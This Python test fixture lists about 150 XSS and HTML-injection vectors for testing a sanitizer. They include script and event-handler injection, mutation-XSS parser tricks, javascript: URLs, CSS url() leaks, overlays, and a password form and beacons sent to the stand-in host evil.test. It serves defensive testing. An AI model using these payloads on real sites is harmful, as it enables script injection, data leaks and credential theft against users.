"""HTML that tries to run, load, submit, cover or escape; by the class of trick. All written for these tests.

SCRIPT is what each vector wants to run (no quotes in it, so that it fits anywhere), EVIL where it wants to go: the
browser tests see both.
"""

# ruff: noqa: E501 (a vector is read best in one line)

from random import Random

SCRIPT = "console.log(/hostile/)"
EVIL = "http://evil.test"

VECTORS: dict[str, str] = {
    # scripts, plain
    "script": f"<script>{SCRIPT}</script>",
    "script-src": f"<script src={EVIL}/x.js></script>",
    "script-case": f"<ScRiPt>{SCRIPT}</sCrIpT>",
    "script-slash": f"<script/x>{SCRIPT}</script >",
    "script-split": f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    "script-in-comment": f"<!--><script>{SCRIPT}</script>-->",
    "script-in-cdata": f"<![CDATA[<script>{SCRIPT}</script>]]>",
    "script-in-conditional": f"<!--[if gte IE 4]><script>{SCRIPT}</script><![endif]-->",
    "script-after-null": f"<scr\0ipt>{SCRIPT}</scr\0ipt>",
    "script-in-body-attributes": f"<body><script>{SCRIPT}</script></body>",
    # event handlers
    "onerror": f'<img src=x onerror="{SCRIPT}">',
    "onload": f'<body onload="{SCRIPT}"><svg onload="{SCRIPT}"></body>',
    "onerror-slash": f'<img/src=x/onerror="{SCRIPT}">',
    "onerror-newline": f'<img src=x\nonerror\n=\n"{SCRIPT}">',
    "onerror-formfeed": f'<img\fsrc=x\fonerror="{SCRIPT}">',
    "onfocus": f'<input autofocus onfocus="{SCRIPT}"><a href=# tabindex=1 autofocus onfocus="{SCRIPT}">x</a>',
    "ontoggle": f'<details open ontoggle="{SCRIPT}"><summary>x</summary></details>',
    "onanimation": f'<style>@keyframes a{{}}</style><p style="animation:a 1s" onanimationstart="{SCRIPT}">x',
    "onbegin": f'<svg><animate onbegin="{SCRIPT}" attributeName=x dur=1s></svg>',
    "onscroll": f'<div onscroll="{SCRIPT}" style="overflow:auto;height:1px">x<br>x<br><a autofocus href=x>x</a></div>',
    "marquee": f'<marquee onstart="{SCRIPT}">x</marquee>',
    "media": f'<video src=x onerror="{SCRIPT}"></video><audio src onerror="{SCRIPT}"><source onerror="{SCRIPT}">',
    "content-visibility": f'<p oncontentvisibilityautostatechange="{SCRIPT}" style="content-visibility:auto">x</p>',
    # breaking out of an attribute
    "break-quote": f"""<img alt='"><img src=x onerror="{SCRIPT}">' src=x>""",
    "break-entity": f'<img alt="&quot;&gt;&lt;img src=x onerror={SCRIPT}&gt;" src=x>',
    "break-backtick": f"<img alt=`><img src=x onerror={SCRIPT}>`>",
    "break-title": f'<abbr title="&lt;/abbr&gt;&lt;script&gt;{SCRIPT}&lt;/script&gt;">x</abbr>',
    "break-style": f"""<p style="font-family:'&quot; onclick=&quot;{SCRIPT}'">x</p>""",
    "break-href": f"""<a href='https://x.test/"onfocus="{SCRIPT}" autofocus="'>x</a>""",
    "break-unclosed": f'<a href="https://x.test/<img src=x onerror={SCRIPT}>',
    "break-bgcolor": f"""<table bgcolor='red"onload="{SCRIPT}'><tr><td>x</table>""",
    "break-body-style": f"""<body style='font-family:"</style><script>{SCRIPT}</script>"'>x""",
    "break-body-bgcolor": f"""<body bgcolor='"><script>{SCRIPT}</script>'>x""",
    # parsing twice differently (mutation)
    "mutate-math-style": f"<math><mi><style><!--</style><img src=x onerror='{SCRIPT}'>--></mi></math>",
    "mutate-svg-style": f"<svg><style><!--</style><img src=x onerror='{SCRIPT}'>--></style></svg>",
    "mutate-mglyph": (
        "<form><math><mtext></form><form><mglyph><style></math>"
        f"<img src onerror='{SCRIPT}'></style></mglyph></form></mtext></math></form>"
    ),
    "mutate-table-mglyph": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f"<img title='--&gt;&lt;img src=1 onerror={SCRIPT}&gt;'></mglyph></table></mtext></math>"
    ),
    "mutate-annotation": (
        '<math><annotation-xml encoding="text/html"><style><!--</style>'
        f"<img src=x onerror='{SCRIPT}'>--></style></annotation-xml></math>"
    ),
    "mutate-desc": f"<svg><desc><svg><style><a title='</style><img src onerror={SCRIPT}>'></a></style></svg></desc></svg>",
    "mutate-foreign": f"<svg></p><style><a id='</style><img src=1 onerror={SCRIPT}>'>",
    "mutate-noscript": f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'></noscript>",
    "mutate-template": f"<template><s><template><s><img src=x onerror='{SCRIPT}'>@</s></template></s></template>",
    "mutate-textarea": f"<textarea><a title='</textarea><img src=x onerror={SCRIPT}>'></textarea>",
    "mutate-title": f"<title><a title='</title><img src=x onerror={SCRIPT}>'></title>",
    "mutate-xmp": f"<xmp><p title='</xmp><img src=x onerror={SCRIPT}>'></xmp>",
    "mutate-plaintext": f"<plaintext><p title='</plaintext><img src=x onerror={SCRIPT}>'>",
    "mutate-noembed": f"<noembed><p title='</noembed><img src=x onerror={SCRIPT}>'></noembed>",
    "mutate-iframe": f"<iframe><p title='</iframe><img src=x onerror={SCRIPT}>'></iframe>",
    "mutate-select": f"<select><template><img src=x onerror='{SCRIPT}'></template><style></select><img src onerror={SCRIPT}>",
    "mutate-option": f"<select><option><style></option></select><img src=x onerror='{SCRIPT}'></style>",
    "mutate-comment-bang": f"<!--!><img src=x onerror='{SCRIPT}'>-->",
    "mutate-comment-dash": f"<!---><img src=x onerror='{SCRIPT}'>-->",
    "mutate-comment-close": f"<!-- --!><img src=x onerror='{SCRIPT}'>-->",
    "mutate-processing": f"<?x ><img src=x onerror='{SCRIPT}'>?>",
    "mutate-doctype": f'<!DOCTYPE x SYSTEM "><img src=x onerror={SCRIPT}>">',
    "mutate-nesting": "<div>" * 400 + f"<p title='</div><img src=x onerror={SCRIPT}>'>" + "<b><i>" * 40,
    "mutate-table": f"<table><td><table><caption><a href='</table><img src=x onerror={SCRIPT}>'>x",
    "mutate-frameset": f"<frameset onload='{SCRIPT}'><frame src='javascript:{SCRIPT}'></frameset>",
    # addresses that are code
    "javascript": f'<a href="javascript:{SCRIPT}">x</a>',
    "javascript-entity": f'<a href="&#106;ava&#x73;cript&colon;{SCRIPT}">x</a>',
    "javascript-tab": f'<a href="java\tscript:{SCRIPT}">x</a>',
    "javascript-newline": f'<a href="java&NewLine;script&Tab;:{SCRIPT}">x</a>',
    "javascript-control": f'<a href="\x01\x02 javascript:{SCRIPT}">x</a>',
    "javascript-null": f'<a href="java\0script:{SCRIPT}">x</a>',
    "javascript-case": f'<a href="JaVaScRiPt:{SCRIPT}">x</a>',
    "javascript-bidi": f'<a href="&#x202e;javascript:{SCRIPT}">x</a>',
    "javascript-img": f'<img src="javascript:{SCRIPT}">',
    "vbscript": '<a href="vbscript:MsgBox(1)">x</a>',
    "data-html": f'<a href="data:text/html,<script>{SCRIPT}</script>">x</a>',
    "data-base64": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data-svg-picture": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{SCRIPT}'/>\">",
    "data-svg-as-png": '<img src="data:image/png;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=">',
    "blob": '<a href="blob:https://x.test/1">x</a><img src="blob:https://x.test/1">',
    "filesystem": '<a href="filesystem:https://x.test/1">x</a><a href="file:///etc/passwd">x</a>',
    "view-source": '<a href="view-source:https://x.test">x</a><a href="about:blank">x</a>',
    "feed": f'<a href="feed:javascript:{SCRIPT}">x</a>',
    "colon-only": '<a href="//evil.test">x</a><a href="/x">x</a><a href="?x">x</a><a href="#x">x</a><a href="\\\\evil.test">',
    "svg-link": f'<svg><a xlink:href="javascript:{SCRIPT}"><text y=20>x</text></a></svg>',
    "svg-animate-link": (
        f'<svg><a><animate attributeName=href values="javascript:{SCRIPT}"/><text y=20>x</text></a></svg>'
    ),
    "svg-set": f'<svg><set attributeName=onload to="{SCRIPT}"/></svg>',
    "svg-use": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"></svg>",
    "svg-image": f'<svg><image href="{EVIL}/svg.png"></image><feImage href="{EVIL}/fe.png"/></svg>',
    "svg-script": f"<svg><script>{SCRIPT}</script><script href={EVIL}/x.js></script></svg>",
    "math-link": f'<math href="javascript:{SCRIPT}"><mi xlink:href="javascript:{SCRIPT}">x</mi></math>',
    # things that load by themselves
    "img": f'<img src="{EVIL}/img.png">',
    "img-protocol-relative": '<img src="//evil.test/x.png"><img src="\\\\evil.test/x.png"><img src="/\t/evil.test/y.png">',
    "img-odd-scheme": '<img src="http:evil.test/x.png"><img src="http:\\\\evil.test/x"><img src="ftp://evil.test/x">',
    "img-entity": '<img src="&#104;ttp://evil.test/e.png"><img src="ht\ntp://evil.test/n.png">',
    "srcset": f'<img srcset="{EVIL}/a.png 1x, {EVIL}/b.png 2x" sizes="100vw">',
    "picture": f'<picture><source srcset="{EVIL}/s.png"><img src="{EVIL}/i.png"></picture>',
    "input-image": f'<input type=image src="{EVIL}/i.png">',
    "background-attribute": f'<body background="{EVIL}/b.png"><table background="{EVIL}/t.png"><td background="{EVIL}/c">x',
    "lowsrc": f'<img lowsrc="{EVIL}/l.png" dynsrc="{EVIL}/d.png" longdesc="{EVIL}/x">',
    "video": f'<video poster="{EVIL}/p.png" src="{EVIL}/v.mp4" autoplay></video><audio src="{EVIL}/a.mp3" autoplay>',
    "track": f'<video><source src="{EVIL}/s.mp4"><track src="{EVIL}/t.vtt" default></video>',
    "link": f'<link rel=stylesheet href="{EVIL}/x.css"><link rel=prefetch href="{EVIL}/p"><link rel=icon href="{EVIL}/i">',
    "link-dns": '<link rel=dns-prefetch href="//evil.test"><link rel=preconnect href="http://evil.test">',
    "link-import": f'<link rel=import href="{EVIL}/i.html"><link rel=manifest href="{EVIL}/m">',
    "iframe": f'<iframe src="{EVIL}/f.html"></iframe><iframe srcdoc="<script>{SCRIPT}</script>"></iframe>',
    "object": f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e"><applet code="{EVIL}/a"></applet>',
    "object-data": f'<object data="data:text/html,<script>{SCRIPT}</script>"></object>',
    "portal": f'<portal src="{EVIL}/p"></portal><fencedframe src="{EVIL}/f"></fencedframe>',
    "base": '<base href="http://evil.test/"><img src="x.png"><a href="y">y</a>',
    "base-target": '<base target="_top"><a href="https://x.test">x</a>',
    "meta-refresh": '<meta http-equiv=refresh content="0;url=http://evil.test/m">',
    "meta-csp": '<meta http-equiv=Content-Security-Policy content="default-src *"><meta name=referrer content=unsafe-url>',
    "ping": '<a href="https://x.test" ping="http://evil.test/ping">x</a>',
    "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["http://evil.test/s"]}]}</script>',
    # forms
    "form": '<form action="http://evil.test/f"><input name=password type=password><button>ok</button></form>',
    "form-attribute": '<form id=f></form><button form=f formaction="http://evil.test/f">x</button>',
    "form-isindex": '<isindex action="http://evil.test/i" prompt=x>',
    "contenteditable": "<div contenteditable autofocus>x</div><dialog open>x</dialog><p popover>x</p>",
    # styles
    "style-url": f'<p style="background:url({EVIL}/1)">x<p style="background-image:url(\'{EVIL}/2\')">x',
    "style-list": f'<ul style="list-style:url({EVIL}/3)"><li style="list-style-image:url({EVIL}/4)">x</ul>',
    "style-content": f'<p style="content:url({EVIL}/5);cursor:url({EVIL}/6),auto;border-image:url({EVIL}/7) 1">x',
    "style-escape": '<p style="background:\\75rl(http://evil.test/8)">x<p style="b\\61 ckground:u\\72l(http://evil.test/9)">x',
    "style-comment": '<p style="background:u/**/rl(http://evil.test/10)">x<p style="background/**/:url(http://evil.test/11)">',
    "style-entity": '<p style="background:&#117;rl(http://evil.test/12)">x',
    "style-image-set": f"<p style=\"background-image:image-set('{EVIL}/13' 1x);background:-webkit-image-set(url({EVIL}/14) 1x)\">",
    "style-var": f'<div style="--x:url({EVIL}/15)"><p style="background:var(--x)">x</p></div>',
    "style-cross-fade": f'<p style="background:cross-fade(url({EVIL}/16),url({EVIL}/17),50%)">x',
    "style-src": f"<p style=\"background:src('{EVIL}/18');mask:url({EVIL}/19);filter:url({EVIL}/20#x)\">x",
    "style-shape": f'<p style="float:left;shape-outside:url({EVIL}/21);clip-path:url({EVIL}/22#x);offset-path:url({EVIL}/23)">x',
    "style-unclosed": f'<p style="background:url({EVIL}/24">x<p style="color:red;background:url({EVIL}/25\n)">x',
    "style-expression": f'<p style="width:expression({SCRIPT});behavior:url({EVIL}/b.htc);-moz-binding:url({EVIL}/x.xml)">x',
    "style-element": f"<style>@import url({EVIL}/i.css);p{{background:url({EVIL}/s.png)}}</style><p>x</p>",
    "style-element-inlined": f"<style>p{{background:url({EVIL}/s.png) red;position:fixed;--a:1}}</style><p>x</p>",
    "style-element-font": f"<style>@font-face{{font-family:x;src:url({EVIL}/f.woff)}}p{{font-family:x}}</style><p>x</p>",
    "style-element-breakout": f'<style>.a{{font-family:"</style><img src=x onerror={SCRIPT}>"}}</style><p class=a>x</p>',
    "style-element-quote": f"""<style>.a{{font-family:'x" onfocus="{SCRIPT}" autofocus="'}}</style><a class=a href=#>x</a>""",
    "overlay": '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9;background:white">x</div>',
    "overlay-other": '<div style="position:absolute;inset:0">x</div><p style="transform:scale(99);zoom:99">x</p>',
    "overlay-sticky": '<div style="position:sticky;top:0">x</div><div style="position:\\66ixed">x</div>',
    # names that collide
    "clobber": "<img name=cookie><a id=x name=y></a><form name=body><input name=getElementById></form>",
    "class": '<p class="button primary" id="header" slot=x part=y is=z data-x=1 aria-label=x itemprop=x>x</p>',
    "target": '<a href="https://x.test" target=_top rel=opener>x</a><a href="https://x.test" target=_self download>y</a>',
    "autolink": f'<p>http://x.test/"onmouseover="{SCRIPT}" https://x.test/&lt;img src=x onerror={SCRIPT}&gt;</p>',
    "map": f'<img usemap=#m ismap><map name=m><area href="javascript:{SCRIPT}" shape=default></map>',
    "custom": "<x-a><slot></slot></x-a><custom-element onclick=1>x</custom-element>",
    "html-attributes": f'<html manifest="{EVIL}/m" onload="{SCRIPT}"><head profile="{EVIL}/p">',
    "long-scheme": f'<a href="{"a" * 9000}:x">x</a><a href="https://{"a" * 9000}">x</a>',
}

_ELEMENTS = [
    "svg",
    "math",
    "style",
    "script",
    "title",
    "textarea",
    "noscript",
    "template",
    "xmp",
    "plaintext",
    "iframe",
    "noembed",
    "noframes",
    "table",
    "td",
    "tr",
    "caption",
    "select",
    "option",
    "form",
    "a",
    "b",
    "i",
    "p",
    "div",
    "span",
    "font",
    "img",
    "mglyph",
    "malignmark",
    "mtext",
    "mi",
    "annotation-xml",
    "desc",
    "foreignObject",
    "body",
    "html",
    "head",
    "frameset",
    "li",
    "ul",
    "dd",
    "button",
    "nobr",
    "object",
    "embed",
    "marquee",
    "h1",
    "pre",
    "listing",
    "input",
    "details",
    "summary",
    "center",
    "col",
    "colgroup",
    "tbody",
    "image",
    "base",
    "meta",
    "link",
]
_ATTRIBUTES = [
    f'title="</style><img src=x onerror={SCRIPT}>"',
    f'alt="--><img src=x onerror={SCRIPT}>"',
    f'href="javascript:{SCRIPT}"',
    f"onerror={SCRIPT}",
    f'xlink:href="javascript:{SCRIPT}"',
    *("src=x", 'style="color:red"', 'style="position:fixed"', 'encoding="text/html"', 'bgcolor="red"', "class=a"),
    *("id=x", 'xmlns="http://www.w3.org/1999/xhtml"', "width=1", 'href="https://x.test/"', "face=x", "dir=rtl", "is=x"),
]
_PIECES = [
    *("<!--", "-->", "--!>", "<![CDATA[", "]]>", "<?", "?>", "</", "<", ">", '"', "'", "`", "\0", "\n", "\f", "text"),
    *(f"&lt;img src=x onerror={SCRIPT}&gt;", "&#60;", "&amp;lt;", "<!DOCTYPE x>"),
    '<style>.a{color:red;font-family:"</style><img>"}</style>',
]


def at_random(seed: int) -> str:
    """HTML of tags that browsers treat in odd ways, in no order at all; the same for the same seed."""
    dice = Random(seed)
    out: list[str] = []
    for _ in range(dice.randint(3, 25)):
        kind = dice.random()
        if kind < 0.5:
            attributes = "".join(f" {dice.choice(_ATTRIBUTES)}" for _ in range(dice.randint(0, 2)))
            out.append(f"<{dice.choice(_ELEMENTS)}{attributes}{dice.choice(('>', '>', '>', '/>', ''))}")
        elif kind < 0.7:
            out.append(f"</{dice.choice(_ELEMENTS)}>")
        else:
            out.append(dice.choice(_PIECES))
    return "".join(out)
